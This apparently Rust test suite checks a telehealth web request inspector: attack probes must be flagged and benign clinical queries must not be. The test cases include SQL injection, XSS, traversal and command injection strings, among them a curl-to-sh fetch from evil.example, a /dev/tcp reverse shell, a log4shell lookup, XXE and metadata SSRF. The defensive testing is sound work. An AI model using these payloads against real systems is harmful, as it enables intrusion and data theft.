//! The probe inspector against hand-written attacks (one or more per family) and a
//! corpus of benign telehealth traffic that must yield no finding at all.

use sentinel::inspect::{Family, MAX_EVIDENCE, RequestParts, inspect};

const BROWSER_UA: &[u8] = b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36";

/// Ordinary browser headers, as sent with a navigation.
fn browser_headers() -> Vec<(&'static str, &'static [u8])> {
    vec![
        ("Host", b"clinic.example.org"),
        ("User-Agent", BROWSER_UA),
        ("Accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
        ("Accept-Language", b"en-AU,en;q=0.9,fr;q=0.8"),
        ("Accept-Encoding", b"gzip, deflate, br, zstd"),
        ("Referer", b"https://clinic.example.org/patients?name=O%27Brien&_sort=-date"),
        ("Cookie", b"tw_session=9f8e7d6c5b4a39281706f5e4d3c2b1a0; theme=dark; consent=yes%3Ball"),
        ("Sec-Fetch-Mode", b"navigate"),
        ("Sec-Ch-Ua", b"\"Chromium\";v=\"126\", \"Not.A/Brand\";v=\"24\""),
        ("Upgrade-Insecure-Requests", b"1"),
        ("Authorization", b"Bearer eyJhbGciOiJFZERTQSJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl--_x"),
    ]
}

fn get(path: &str, query: Option<&str>) -> Vec<sentinel::inspect::Finding> {
    let headers = browser_headers();
    inspect(&RequestParts {
        method: "GET",
        path,
        query,
        headers: &headers,
        body: None,
        content_type: None,
    })
}

fn post(path: &str, content_type: &str, body: &[u8]) -> Vec<sentinel::inspect::Finding> {
    let mut headers = browser_headers();
    headers.push(("Content-Type", content_type.as_bytes()));
    inspect(&RequestParts {
        method: "POST",
        path,
        query: None,
        headers: &headers,
        body: Some(body),
        content_type: Some(content_type),
    })
}

fn families(findings: &[sentinel::inspect::Finding]) -> Vec<Family> {
    findings.iter().map(|f| f.family).collect()
}

#[track_caller]
fn assert_family(findings: &[sentinel::inspect::Finding], family: Family, what: &str) {
    assert!(
        findings.iter().any(|f| f.family == family),
        "{what}: expected {family}, got {findings:?}"
    );
}

#[test]
fn sql_injection_is_detected() {
    let cases = [
        "id=1%27%20OR%20%271%27%3D%271",
        "q=x%27+UNION+SELECT+username,password+FROM+users--+-",
        "q=1%20UnIoN/**/SeLeCt/**/1,2,3",
        "id=5%20AND%20SLEEP(5)",
        "id=1;DROP%20TABLE%20patients--",
        "name=a%27%20and%20extractvalue(1,concat(0x7e,version()))--%20",
        "q=%2527%2520or%25201%253D1--",
        "sort=(SELECT%20CASE%20WHEN%20(1=1)%20THEN%201%20ELSE%202%20END)",
        "user[$ne]=admin",
        "id=1%20and%20ascii(substring((select%20database()),1,1))>64",
        "q=%27;EXEC%20xp_cmdshell(%27dir%27)--",
        "search=1%27%20or%20%271%27=%271%27%20into%20outfile%20%27/tmp/x%27",
    ];
    for q in cases {
        assert_family(&get("/fhir/Patient", Some(q)), Family::Sqli, q);
    }
    let json = br#"{"username":"admin' -- ","note":"x"}"#;
    assert_family(
        &post("/api/signin", "application/json", json),
        Family::Sqli,
        "json",
    );
}

#[test]
fn xss_is_detected() {
    let cases = [
        "q=%3Cscript%3Ealert(1)%3C/script%3E",
        "next=javascript:alert(document.cookie)",
        "next=jav%09ascript%3Aalert(1)",
        "name=%22%3E%3Csvg/onload=alert(1)%3E",
        "c=%26lt%3Bimg%20src%3Dx%20onerror%3Dprompt(1)%26gt%3B",
        "q=%3Ciframe%20src=%22data:text/html;base64,PHNjcmlwdD4=%22%3E",
        "q=%u003cscript%u003e",
        "q=%3Cdiv%20style=%22background:url(javascript:alert(1))%22%3E",
    ];
    for q in cases {
        assert_family(&get("/search", Some(q)), Family::Xss, q);
    }
}

#[test]
fn traversal_is_detected() {
    assert_family(
        &get("/files", Some("name=../../../../etc/passwd")),
        Family::Traversal,
        "dotdot",
    );
    assert_family(
        &get("/files", Some("name=..%252f..%252f..%252fetc%252fshadow")),
        Family::Traversal,
        "double",
    );
    assert_family(
        &get("/files", Some("name=%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini")),
        Family::Traversal,
        "overlong",
    );
    assert_family(
        &get("/static/..%5c..%5cwindows%5cwin.ini", None),
        Family::Traversal,
        "path",
    );
    assert_family(
        &get("/view", Some("f=file:///etc/hosts")),
        Family::Traversal,
        "file url",
    );
}

#[test]
fn command_injection_is_detected() {
    let cases = [
        "host=127.0.0.1;cat%20/etc/passwd",
        "host=x%7Cwhoami",
        "host=x%26%26curl%20http://evil.example/x.sh%7Csh",
        "file=$(id)",
        "f=%60uname%20-a%60",
        "x=;c%27a%27t%20/e%22t%22c/pas$@swd",
        "x=cat${IFS}/etc/passwd",
        "x=()%20%7B%20:;%20%7D;%20/bin/bash%20-c%20id",
        "x=%3B%20bash%20-i%20%3E%26%20/dev/tcp/10.0.0.1/4444%200%3E%261",
        "cmd=cmd.exe%20/c%20dir",
    ];
    for q in cases {
        assert_family(&get("/ping", Some(q)), Family::CommandInjection, q);
    }
}

/// Fragments that only make sense as SQL, in structured values (not free text).
#[test]
fn sql_fragments_in_structured_values_are_detected() {
    let cases = [
        "id=database()",
        "sort=concat%20(",
        "code=FIND_IN_SET(%2722%27,%20Category%20)",
        "id=1%20AND%207639%3D(",
        "id=x%27%20or%20%27a%27%20%3C",
        "id=%7C%7C%20langCode%20%3D%3D%20%27",
        "v=1%3D1",
        "v=42%20like%2042",
        "v=1%20is%20not%202",
        "v=in%20(0,1)",
        "v=IS%20NULL",
        "v=%27%20union/",
        "v=%3Bdrop",
        "v=ORder%20by",
        "v=pg_catalog",
        "v=nvarchar",
        "v=xp_cmdshell",
        "v=%27%20%3D%20%23%20%27",
        "v=%29%20when%20234%20then",
        "v=user%27collate%20nocase--",
    ];
    for q in cases {
        assert_family(&get("/fhir/Patient", Some(q)), Family::Sqli, q);
    }
    // Anywhere: a function call between reopened strings, a JSON literal compared.
    for q in [
        "note=2010-01-01%27%2Bsleep(20.to_i)%2B%27",
        "note=OR%20%27%7B%22a%22%3A%22b%22%7D%27%20%3F%20%27a%27",
    ] {
        assert_family(&get("/search", Some(q)), Family::Sqli, q);
    }
    let json = br#"{"in (0,1)":"foo","id":"sqlite_version()"}"#;
    assert_family(
        &post("/api/x", "application/json", json),
        Family::Sqli,
        "json key",
    );
}

/// Shell syntax and bare commands in structured values and headers.
#[test]
fn command_fragments_are_detected() {
    let cases = [
        "x=$(cmd)",
        "x=%3E(tee%20log)",
        "s=/etc/%5Bp%5Dasswd",
        "shell=%2Fusr%2F%5Ba-z%5Din%2Fbash",
        "foo=FOR%20%2FL%20%25a%20IN%20(1,1,5)%20DO%20echo%20%25a",
        "foo=IF%20%25ERRORLEVEL%25%20NEQ%200%20echo%20test",
        "foo=if%20%2Fi%20a%3D%3Db%20foo",
        "cmd=a%3D%2Fetc%26%26b%3D%2Fpasswd%26%26c%3Dcat%26%26%24c%20%24a%24b",
        "s=1;.shell%20whoami",
        "x=pi$()ng%20127.0.0.1",
        "code=ansible-playbook%20site.yml",
        "code=%27id%27",
        "arg=%3Bps",
        "arg=;perf%20--version",
        "rce=alias%20ls-al%3D%27ls%20-al%27",
        "x=%7B,ifconfig%7D",
        "code=%24%7BSHELL%7D%20-c%20%22echo%20hi%22",
    ];
    for q in cases {
        assert_family(&get("/ping", Some(q)), Family::CommandInjection, q);
    }
    for (name, value) in [
        ("User-Agent", &b"cscli alerts list"[..]),
        ("User-Agent", b"id"),
        ("Referer", b";env"),
    ] {
        let headers: Vec<(&str, &[u8])> = vec![(name, value)];
        let found = inspect(&RequestParts {
            method: "GET",
            path: "/",
            headers: &headers,
            ..RequestParts::default()
        });
        assert_family(
            &found,
            Family::CommandInjection,
            &String::from_utf8_lossy(value),
        );
    }
}

#[test]
fn more_xss_is_detected() {
    for q in [
        "v=%3Ca%20href%3D%22test%22",
        "v=%3Cinput%20pattern%3D%22%5Ea%24%22%3E",
        "q=%3Cf%20o%20r%20m",
        "q=btoa(document.cookie)",
        "q=document.querySelector(%22p%22).textContent%3D1",
        "%20%20onabcdefgh%3d%20=vardata",
    ] {
        assert_family(&get("/search", Some(q)), Family::Xss, q);
    }
    let body = b"var=\\xc2\\xbcscript\\xc2\\xbealert(1)\\xc2\\xbc/script\\xc2\\xbe";
    assert_family(
        &post("/post", "application/x-www-form-urlencoded", body),
        Family::Xss,
        "7-bit",
    );
    let headers: Vec<(&str, &[u8])> = vec![("Cookie", b"document.cookie=1")];
    let found = inspect(&RequestParts {
        method: "GET",
        path: "/",
        headers: &headers,
        ..RequestParts::default()
    });
    assert_family(&found, Family::Xss, "cookie name");
}

#[test]
fn other_families_are_detected() {
    assert_family(
        &get("/img", Some("src=http://169.254.169.254/latest/meta-data/")),
        Family::RemoteInclusion,
        "metadata",
    );
    assert_family(
        &get("/img", Some("src=gopher://127.0.0.1:6379/_INFO")),
        Family::RemoteInclusion,
        "gopher",
    );
    assert_family(
        &get("/x", Some("a=%3C%3Fphp%20system($_GET[%27c%27]);%20%3F%3E")),
        Family::PhpInjection,
        "php tag",
    );
    assert_family(
        &get(
            "/x",
            Some("p=php://filter/convert.base64-encode/resource=index"),
        ),
        Family::PhpInjection,
        "wrapper",
    );
    let headers: Vec<(&str, &[u8])> = vec![("User-Agent", b"${jndi:ldap://evil.example/a}")];
    let found = inspect(&RequestParts {
        method: "GET",
        path: "/",
        headers: &headers,
        ..RequestParts::default()
    });
    assert_family(&found, Family::JavaInjection, "log4shell");
    let xxe =
        br#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
    assert_family(
        &post("/api/import", "application/xml", xxe),
        Family::RemoteInclusion,
        "xxe",
    );
}

#[test]
fn scanners_and_sensitive_paths_are_detected() {
    for ua in [
        &b"sqlmap/1.8#stable (https://sqlmap.org)"[..],
        b"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
        b"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        b"Mozilla/4.0 (Hydra)",
        b"WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
        b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) Nuclei - Open-source project",
        b"gobuster/3.6",
        b"DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
        b"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        b"Mozilla/5.0 zgrab/0.x",
    ] {
        let headers: Vec<(&str, &[u8])> = vec![("User-Agent", ua)];
        let found = inspect(&RequestParts {
            method: "GET",
            path: "/",
            headers: &headers,
            ..RequestParts::default()
        });
        assert_family(&found, Family::Scanner, &String::from_utf8_lossy(ua));
    }
    for path in [
        "/.env",
        "/.git/config",
        "/wp-admin/setup-config.php",
        "/phpmyadmin/index.php",
        "/backup.sql",
        "/db.tar.gz",
        "/config.php.bak",
        "/.aws/credentials",
        "/server-status",
    ] {
        assert_family(&get(path, None), Family::SensitivePath, path);
    }
    assert_family(&get("/etc/passwd", None), Family::Traversal, "/etc/passwd");
}

#[test]
fn curl_and_ordinary_clients_are_not_scanners() {
    for ua in [
        &b"curl/8.5.0"[..],
        b"Wget/1.21.4",
        b"python-requests/2.32.3",
        b"Go-http-client/2.0",
        b"okhttp/4.12.0",
        BROWSER_UA,
        b"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
        b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    ] {
        let headers: Vec<(&str, &[u8])> = vec![("User-Agent", ua)];
        let found = inspect(&RequestParts { method: "GET", path: "/", headers: &headers, ..RequestParts::default() });
        assert!(found.is_empty(), "{}: {found:?}", String::from_utf8_lossy(ua));
    }
}

#[test]
fn benign_fhir_searches_yield_nothing() {
    let queries = [
        "name=O%27Brien",
        "name=O'Brien&given=Se%C3%A1n",
        "family=D%27Souza&birthdate=ge1970-01-01&birthdate=le1980-12-31",
        "date=ge2024-01-01&date=lt2024-02-01&_sort=-date&_count=50",
        "identifier=http://ns.electronichealth.net.au/id/hi/ihi/1.0%7C8003608166690503",
        "identifier=http%3A%2F%2Fns.electronichealth.net.au%2Fid%2Fhi%2Fihi%2F1.0%7C8003608166690503",
        "subject=Patient/123&code=http://loinc.org|85354-9&value-quantity=gt140",
        "_include=Observation:patient&_revinclude=Provenance:target&status=final,amended",
        "code:text=blood+pressure&_elements=id,code,value",
        "name:contains=smith&address-city=St.+John%27s&_format=json",
        "_has:Observation:patient:code=1234-5&_summary=count",
        "q=select+a+time+that+works&page=2",
        "email=mary.o%27neil%2Btest%40example.com",
        "redirect_uri=https%3A%2F%2Fclinic.example.org%2Fcallback%3Fstate%3Dabc",
        "q=drop-in+clinic&near=-33.86|151.20|10|km",
        "_lastUpdated=gt2024-05-01T10:00:00%2B10:00",
        "note=Patient+reports+pain+%3E+7%2F10%3B+advised+to+drop+dose+and+select+a+softer+diet",
        "comment=BP+120%2F80+%26+HR+72",
        "q=cat+scan",
        "q=ls+--+not+relevant",
        "code:text=head+CT",
        "procedure=Head+CT&laterality=left",
        "medication=Amoxicillin+500+mg+(1+cap)+tds&dose=max+(4)+per+day",
        "address-state=NC&address-country=SH&family=Perl",
        "family=Curl&given=Bash",
        "_filter=given+eq+%22peter%22+and+birthdate+ge+2014-10-10",
        "_filter=(name+eq+%22smith%22+or+name+eq+%22jones%22)",
        "code=http://snomed.info/sct%7C386661006&unit=mm%5BHg%5D",
        "value-quantity=le5.4%7Chttp://unitsofmeasure.org%7Cmg&dose=~10",
        "status=active,on-hold&action=update&mode=select&op=delete",
        "_sort=id&_elements=id,name,birthDate&format=lastlog",
        "state=%7B%22a%22%3A%22b%22%2C%22n%22%3A1%7D",
        "tags=%5B%22asthma%22%2C%22copd%22%5D",
        "time=10%3A30&date=2024-06-01&type=file&sort=date",
        "reference=https://clinic.example.org/fhir/Patient/123/_history/2",
        "height=5%2710%22&weight=70kg",
        "ihi=8003608166690503&medicare=2123456701-1&dva=NX901667",
        "doc=%3C%3Fxml%20version%3D%221.0%22%20encoding%3D%22UTF-8%22%3F%3E",
    ];
    for q in queries {
        let found = get("/fhir/Patient", Some(q));
        assert!(found.is_empty(), "{q}: {found:?}");
    }
    for path in [
        "/fhir/Patient/123/$everything",
        "/fhir/Observation/_history",
        "/.well-known/openid-configuration",
        "/assets/app-4f3c2a.js",
        "/api/consults/9b1c/messages",
        "/patients/O'Brien",
    ] {
        let found = get(path, None);
        assert!(found.is_empty(), "{path}: {found:?}");
    }
}

#[test]
fn sql_probes_in_odd_places_are_detected() {
    // A name whose `=` was encoded carries the value; a name or value of symbols only;
    // a keyword cut by a comment; a catalog as a parameter name; literal comparisons.
    let bodies: [&[u8]; 11] = [
        b"pay%3DAND+7639%3D%28",
        b"pay%3D%7C%7C+langCode+%3D%3D+%27",
        b"v=%22%27",
        b"q=%27%3b%40%40%23%2d%2d",
        b"op=%3C%3D%3E",
        b"email=x%27%20or%20true--",
        b"test=DR/**/OP/**/patients",
        b"sysobjects",
        b"id=OR%20json_extract(%27%7B%7D%27%2C%20%27%24.a%27)%20%3D%20%27b%27",
        b"v=%27admin%27%2C%200x41",
        b"q=%27a%27%21%3D%27b",
    ];
    for body in bodies {
        let found = post("/post", "application/x-www-form-urlencoded", body);
        assert_family(&found, Family::Sqli, &String::from_utf8_lossy(body));
    }
}

#[test]
fn ordinary_symbols_names_and_short_notes_yield_nothing() {
    let queries = [
        "q=C%2B%2B+developer",
        "comment=BP+120%2F80+(sitting)%3B+HR+72+%5Bregular%5D",
        "answer=--&rating=%3A-)&mood=!!!",
        "name=Mary-Jane+O%27Brien-Smith&email=o%27reilly%40example.com",
        "sort=name&order=asc&ids=1,2,3&range=10-20",
        "q=%3F%3F&ellipsis=...&dash=-",
        "note=take+1+tab+(500mg)+twice+a+day+with+food",
        "where=home&from=clinic&select=all&union=yes",
        "city=Coeur+d%27Alene&street=1+O%27Connell+St",
    ];
    for q in queries {
        let found = get("/fhir/Patient", Some(q));
        assert!(found.is_empty(), "{q}: {found:?}");
    }
    // Short clinical values and chat messages that are not prose by word count.
    let more = [
        "route=PO+or+IV&freq=1+or+2&bp=120%2F80+or+less",
        "allergy=penicillin+(rash)&code=E11.9,+I10&time=08:00%3B20:00",
        "name=D%27Arcy-O%27Neil&email=o%27hara%40example.com",
        "message=%3B)&text=%3A%27(&reaction=%3B-)",
        "medication=Metformin+500mg+(1+tab)+bd&sig=1-2+tabs+q4h+prn",
    ];
    for q in more {
        let found = get("/api/consults/1/messages", Some(q));
        assert!(found.is_empty(), "{q}: {found:?}");
    }
    let json = br#"{"resourceType":"Patient","name":[{"family":"O'Brien","given":["Se\u00e1n"]}],"telecom":[{"system":"email","value":"sean.o'brien@example.com"}],"note":"Allergic to penicillin (rash) -- mum says 'not sure' about sulfa"}"#;
    let found = post("/fhir/Patient", "application/fhir+json", json);
    assert!(found.is_empty(), "{found:?}");
}

#[test]
fn xss_breakouts_are_detected() {
    let queries = [
        "a=--%3E",
        "a=--%3E%3Cimg%20src=x%3E",
        "a=%3Cimportimplementation=%22x%22",
        "a=%22in%20\\u0076alueOf%3d1",
        "a=%27%20%20x.y.z=1",
        "a=+!![]",
        "a=%C2%BCb%C2%BEbold%C2%BC/b%C2%BE",
    ];
    for q in queries {
        assert_family(&get("/get", Some(q)), Family::Xss, q);
    }
    let headers: [(&str, &[u8]); 1] = [("User-Agent", b"foo!ENTITY % bar SYSTEM")];
    let found = inspect(&RequestParts {
        method: "GET",
        path: "/",
        headers: &headers,
        ..RequestParts::default()
    });
    assert_family(&found, Family::Xss, "entity declaration in a user agent");
}

#[test]
fn arrows_fractions_and_page_names_yield_nothing() {
    let queries = [
        "note=BP+160+--%3E+135+after+rest,+reviewed+in+clinic",
        "dose=take+%C2%BC+tab+am+and+%C2%BE+tab+pm",
        "q=what+is+in+stock%3F&sort=price",
        "title=%22In+Case+of+Emergency%22",
        "name=%D0%BC%D0%B0%D1%80%D0%B8%D1%8F",
    ];
    for q in queries {
        let found = get("/fhir/Patient", Some(q));
        assert!(found.is_empty(), "{q}: {found:?}");
    }
    for path in [
        "/help/javascript-manual/document.cookie",
        "/docs/window.location",
    ] {
        let found = get(path, None);
        assert!(found.is_empty(), "{path}: {found:?}");
    }
}

#[test]
fn shell_syntax_in_more_shapes_is_detected() {
    let queries = [
        "a=FOR+%2FF+%22tokens%3D1%2C3+delims%3D%2C%22+%25%25G+IN+%28x.txt%29+DO+%40echo+%25%25G",
        "a=alias+%2Bm+a%3Db",
        "a=%7Cvi+%28x",
        "a=ifconfig%3B.+rm+-rf+%2F",
        "a=%27i%27p+a",
        "a=%3Btrap+%27rm+-rf+x%27+EXIT",
        "a=flock+-u+%2F+whoami",
        "a=%5Cls",
        "a=%24%7Bcmd%7D",
    ];
    for q in queries {
        assert_family(&get("/get", Some(q)), Family::CommandInjection, q);
    }
    for (name, value) in [
        ("Referer", &b"https://example.com/?args=env --version"[..]),
        ("User-Agent", b"code=ansible-console"),
    ] {
        let headers: [(&str, &[u8]); 1] = [(name, value)];
        let found = inspect(&RequestParts {
            method: "GET",
            path: "/",
            headers: &headers,
            ..RequestParts::default()
        });
        assert_family(&found, Family::CommandInjection, name);
    }
}

#[test]
fn apostrophes_aliases_and_referer_searches_yield_nothing() {
    let queries = [
        "family=O%27Keefe%27s&note=That%27s+two+%22O%22s+in+goose",
        "alias=Johnny&nickname=alias+John",
        "note=mouse+trap+set+in+the+kitchen%3B+no+bites",
        "q=size+8%22x11%22+paper",
        "title=%27Ip%27+clinic",
    ];
    for q in queries {
        let found = get("/fhir/Patient", Some(q));
        assert!(found.is_empty(), "{q}: {found:?}");
    }
    let headers: [(&str, &[u8]); 2] = [
        (
            "Referer",
            b"https://clinic.example.org/search?q=cat+scan&page=2&sort=-date",
        ),
        ("User-Agent", BROWSER_UA),
    ];
    let found = inspect(&RequestParts {
        method: "GET",
        path: "/records",
        headers: &headers,
        ..RequestParts::default()
    });
    assert!(found.is_empty(), "{found:?}");
}

#[test]
fn benign_clinical_notes_yield_nothing() {
    let notes: [&str; 16] = [
        r#"{"note":"Patient reports pain > 7/10; advised to drop dose and select a softer diet."}"#,
        r#"{"o":"BP 120/80 & HR 72","a":"r/o UTI; ?pyelo","p":"MSU, FBC; review 1/7"}"#,
        r#"{"medication":"Metformin 500mg (1 tab) bd","sig":"max (2) per day","route":"PO"}"#,
        r#"{"note":"ls -- not relevant; cat scan booked, set for Tuesday","tag":"cat scan"}"#,
        r#"{"order":"Head CT","priority":"routine","reason":"fall, ? head injury"}"#,
        r#"{"reference":"https://clinic.example.org/fhir/Patient/123?_format=json","display":"O'Brien, Mary"}"#,
        r#"{"message":"Can you update my address? It's 12 O'Connell St; unit 4 <rear>"}"#,
        r#"{"note":"Dose: 1=morning, 2=night; if pain > 5 or fever then ED","status":"on-hold"}"#,
        r#"{"note":"Pt reports poor sleep (3-4h); select foods from the low-FODMAP list. BP 142/91 > target, so drop the amlodipine dose? Union of fractures confirmed."}"#,
        r#"{"note":"Plan: rm sutures in 10 days; cat scratch fever ruled out. Follow up if pain > 7/10 or fever; 'wait and see' per patient's wishes & family."}"#,
        r#"{"soap":{"s":"Mother says she's \"tired all the time\" and can't sleep","o":"HR 88, T 37.2 °C, SpO2 < 94% on exertion","a":"r/o anaemia; DDx: hypothyroid","p":"FBC, TSH; review in 1/52"}}"#,
        r#"{"note":"Insert into chart: patient declined the flu shot; update the allergy list (penicillin -> rash). Delete from the list any duplicate meds."}"#,
        r#"{"message":"Hi doctor, my son's rash looks like <this>, should I use the cream 2x/day or 3x? I can't find the order form; is it the one from the pharmacy?"}"#,
        r#"{"note":"Take 1/2 tablet (½) at night; if no improvement in 2 days then call. Where the wound is red & hot -> ED. Case when reviewed: stable."}"#,
        r#"{"resourceType":"Observation","status":"final","code":{"coding":[{"system":"http://loinc.org","code":"8480-6","display":"Systolic blood pressure"}]},"valueQuantity":{"value":142,"unit":"mm[Hg]","system":"http://unitsofmeasure.org","code":"mm[Hg]"}}"#,
        r#"{"note":"Echo: EF 55%, no regional wall motion abnormality; or so the report says. Find the old ECG and sort by date; head CT & tail-bone X-ray normal."}"#,
    ];
    for note in notes {
        let found = post("/api/notes", "application/json", note.as_bytes());
        assert!(found.is_empty(), "{note}: {found:?}");
    }
}

#[test]
fn sign_in_forms_with_odd_passwords_yield_nothing() {
    let forms: [&[u8]; 6] = [
        b"email=mary%40example.com&password=Tr0ub4dor%263",
        b"email=mary%40example.com&password=%27%3B--+hunter2",
        b"email=mary%40example.com&password=%3Cscript%3E%21%40%23%24",
        b"email=mary%40example.com&password=..%2F..%2Fcat%7Cls",
        b"username=o%27brien&password=a%27+or+x&remember=on",
        b"email=dr.who%40example.com&password=%24%28echo%29%60%60%7C%7C&csrf=8f7e6d",
    ];
    for form in forms {
        let found = post("/signin", "application/x-www-form-urlencoded", form);
        assert!(
            found.is_empty(),
            "{}: {found:?}",
            String::from_utf8_lossy(form)
        );
    }
    let json = br#"{"email":"mary@example.com","password":"x' UNION sel<script>../../etc","totp":"123456"}"#;
    let found = post("/api/signin", "application/json", json);
    assert!(found.is_empty(), "{found:?}");
}

#[test]
fn a_self_hosted_sites_own_referer_yields_nothing_but_an_attack_in_it_is_found() {
    for referer in [
        "http://localhost:8080/records/patients/abc",
        "http://127.0.0.1:8080/",
        "https://10.0.0.5/security?x=1",
        "http://localhost:41853",
    ] {
        let headers: [(&str, &[u8]); 1] = [("referer", referer.as_bytes())];
        let found = inspect(&RequestParts {
            method: "GET",
            path: "/records",
            headers: &headers,
            ..RequestParts::default()
        });
        assert!(found.is_empty(), "{referer}: {found:?}");
    }
    let attack: [(&str, &[u8]); 1] = [(
        "referer",
        b"http://localhost:8080/?q=%27%20UNION%20SELECT%20password%20FROM%20users--",
    )];
    let found = inspect(&RequestParts {
        method: "GET",
        path: "/records",
        headers: &attack,
        ..RequestParts::default()
    });
    assert!(
        !found.is_empty(),
        "the query of a referer is still inspected"
    );
}

#[test]
fn security_forms_naming_addresses_yield_nothing() {
    // The security officer blocks and unblocks addresses by typing them in.
    for form in [
        &b"source=127.0.0.9"[..],
        b"source=127.0.0.10&minutes=30&reason=seen+in+the+firewall+log",
        b"source=localhost&minutes=5&reason=test",
        b"source=%3A%3A1",
    ] {
        let found = post("/security/block", "application/x-www-form-urlencoded", form);
        assert!(
            found.is_empty(),
            "{}: {found:?}",
            String::from_utf8_lossy(form)
        );
    }
}

#[test]
fn evidence_is_short() {
    let long = format!(
        "q=%27%20UNION%20SELECT%20{}%20FROM%20users--",
        "a,".repeat(5000)
    );
    let found = get("/search", Some(&long));
    assert!(!found.is_empty());
    for f in &found {
        assert!(f.evidence.chars().count() <= MAX_EVIDENCE + 1, "{f:?}");
    }
    let body = format!(
        r#"{{"note":"{}<script>alert(1)</script>"}}"#,
        "x".repeat(2000)
    );
    let found = post("/api/notes", "application/json", body.as_bytes());
    assert!(families(&found).contains(&Family::Xss));
    for f in &found {
        assert!(f.evidence.len() < 400, "{f:?}");
    }
}

/// A small deterministic generator (xorshift) for inputs without a dependency.
struct Gen(u64);

impl Gen {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn bytes(&mut self, len: usize) -> Vec<u8> {
        const ALPHABET: &[u8] = b"%25uU0aF'\"<>/\\.;|&$(){}[]=+-#*!`~ \r\n\t\0\xff\xfe\xc0\xae\xe2\x80\x99selectunionscript";
        (0..len)
            .map(|_| {
                let r = self.next();
                if r.is_multiple_of(4) {
                    (r >> 8) as u8
                } else {
                    ALPHABET[(r >> 8) as usize % ALPHABET.len()]
                }
            })
            .collect()
    }
}

#[test]
fn hostile_and_huge_inputs_do_not_panic() {
    let mut g = Gen(0x9e37_79b9_7f4a_7c15);
    let content_types = [
        "application/json",
        "application/xml",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=%25",
        "text/plain",
        "",
    ];
    for i in 0..600 {
        let len = (g.next() % 300) as usize;
        let raw = g.bytes(len);
        let text = String::from_utf8_lossy(&raw).into_owned();
        let header_value = g.bytes(len / 2);
        let headers: Vec<(&str, &[u8])> = vec![
            ("User-Agent", &header_value),
            ("Cookie", &raw),
            ("X-Custom", &raw),
        ];
        let ct = content_types[i % content_types.len()];
        let _ = inspect(&RequestParts {
            method: &text,
            path: &text,
            query: Some(&text),
            headers: &headers,
            body: Some(&raw),
            content_type: (!ct.is_empty()).then_some(ct),
        });
    }
    // Huge: a megabyte body and a long query are inspected in bounded time and size.
    let huge = vec![b'%'; 1 << 20];
    let long_query = "a=%27".repeat(20_000);
    let found = inspect(&RequestParts {
        method: "POST",
        path: "/",
        query: Some(&long_query),
        headers: &[],
        body: Some(&huge),
        content_type: Some("application/json"),
    });
    assert!(found.len() <= sentinel::inspect::MAX_FINDINGS);
}
